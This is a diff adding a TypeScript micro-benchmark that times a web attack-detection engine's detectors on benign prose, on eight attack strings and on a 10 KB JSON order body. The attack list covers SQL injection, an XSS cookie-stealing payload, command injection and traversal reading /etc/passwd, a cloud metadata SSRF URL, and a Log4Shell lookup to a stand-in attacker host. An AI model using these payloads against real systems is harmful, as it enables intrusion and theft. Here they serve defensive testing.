@@ -1,0 +1,100 @@
+/**
+ * Micro-benchmarks of the attack-detection engine: each detector on its own, then the whole inspection of a
+ * 10 KB JSON body (extraction, decoding layers, every detector) as the protection runs it.
+ *
+ *   node bench/micro/inspection.ts [--iterations N]
+ *
+ * Prints microseconds per call (mean and p99) per detector and per input, and p50/p99 for the body.
+ */
+import { performance } from 'node:perf_hooks';
+import { parseArgs } from 'node:util';
+import { DETECTORS } from '../../src/inspect/detect/index.ts';
+import { CATEGORIES, type DetectorContext, type Category } from '../../src/inspect/finding.ts';
+import { inspectInputs, type CategorySettings, type EngineSettings } from '../../src/inspect/engine.ts';
+import { decodedVariants } from '../../src/inspect/decode/variants.ts';
+import { extractJson } from '../../src/inspect/extract/json.ts';
+
+const { values } = parseArgs({ options: { iterations: { type: 'string', default: '2000' } } });
+const iterations = Number(values.iterations);
+
+/** Ordinary text of about 10 KB: product prose with punctuation, numbers, quotes and a URL or two. */
+function prose(bytes: number): string {
+  const sentences = [
+    "Our sourdough is baked fresh every morning; it's made from flour, water & salt (nothing else).",
+    'Select a size from the list below, then add it to your basket - delivery takes 1 or 2 days.',
+    'Questions? Write to support@example.com or see https://example.com/help?topic=delivery&lang=en.',
+    "O'Brien's order #1024 shipped on 2026-11-20 at 10:30, tracking code KR-4471-AB.",
+    'Prices include VAT (10%); a discount of 5% applies to orders over 50,000 KRW.',
+  ];
+  let text = '';
+  for (let i = 0; text.length < bytes; i++) text += sentences[i % sentences.length] + ' ';
+  return text.slice(0, bytes);
+}
+
+/** A 10 KB JSON order document with nested objects, arrays and free-text fields. */
+function orderJson(bytes: number): string {
+  const items = [];
+  let doc = '';
+  for (let i = 0; ; i++) {
+    items.push({ sku: `SKU-${1000 + i}`, name: `Item ${i} - oat & honey loaf`, qty: (i % 3) + 1, price: 4500 + i * 10, note: prose(120) });
+    doc = JSON.stringify({ orderId: 'ord_1234', customer: { name: "Ji-woo O'Neil", email: 'jiwoo@example.com', phone: '010-1234-5678' }, items, comment: prose(400) });
+    if (doc.length >= bytes) return doc;
+  }
+}
+
+const ATTACKS: string[] = [
+  "1' OR '1'='1' -- ",
+  '1 UNION SELECT username, password FROM users',
+  '<img src=x onerror=alert(document.cookie)>',
+  '; cat /etc/passwd',
+  '../../../../etc/passwd',
+  'http://169.254.169.254/latest/meta-data/',
+  '${jndi:ldap://attacker.example/a}',
+  '{{7*7}}',
+];
+
+function percentile(sorted: number[], p: number): number {
+  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
+}
+
+function time(fn: () => void, n: number): { mean: number; p99: number } {
+  const samples: number[] = [];
+  for (let i = 0; i < Math.min(200, n); i++) fn(); // warm-up
+  for (let i = 0; i < n; i++) {
+    const start = performance.now();
+    fn();
+    samples.push((performance.now() - start) * 1000);
+  }
+  samples.sort((a, b) => a - b);
+  return { mean: samples.reduce((a, b) => a + b, 0) / samples.length, p99: percentile(samples, 99) };
+}
+
+const context: DetectorContext = { source: 'query', name: 'q', isName: false, paranoia: 1, layers: [] };
+const benign = prose(10 * 1024);
+console.log(`node ${process.version}; ${iterations} iterations; ${DETECTORS.length} detectors`);
+console.log('\ndetector        10 KB prose mean/p99 µs    8 attack strings mean/p99 µs');
+for (const detector of DETECTORS) {
+  const onProse = time(() => detector.detect(benign, context, () => {}), iterations);
+  const onAttacks = time(() => { for (const attack of ATTACKS) detector.detect(attack, context, () => {}); }, iterations);
+  console.log(`${detector.category.padEnd(15)} ${onProse.mean.toFixed(1).padStart(10)} / ${onProse.p99.toFixed(1).padEnd(12)} ${onAttacks.mean.toFixed(1).padStart(10)} / ${onAttacks.p99.toFixed(1)}`);
+}
+
+const categories = new Map<Category, CategorySettings>(CATEGORIES.map((c) => [c, { paranoia: 1, monitor: false }]));
+const settings: EngineSettings = {
+  detectors: DETECTORS, categories, paranoia: 1, variants: decodedVariants, isExcluded: () => false,
+};
+const body = Buffer.from(orderJson(10 * 1024));
+const whole = time(() => {
+  const extracted = extractJson(body);
+  if ('inputs' in extracted) inspectInputs(extracted.inputs, settings);
+}, iterations);
+const samples: number[] = [];
+for (let i = 0; i < iterations; i++) {
+  const start = performance.now();
+  const extracted = extractJson(body);
+  if ('inputs' in extracted) inspectInputs(extracted.inputs, settings);
+  samples.push(performance.now() - start);
+}
+samples.sort((a, b) => a - b);
+console.log(`\n10 KB JSON body (${body.length} bytes), extract + decode + every detector at paranoia 1:`);
+console.log(`  mean ${(whole.mean / 1000).toFixed(3)} ms, p50 ${percentile(samples, 50).toFixed(3)} ms, p99 ${percentile(samples, 99).toFixed(3)} ms (target p99 < 1 ms)`);
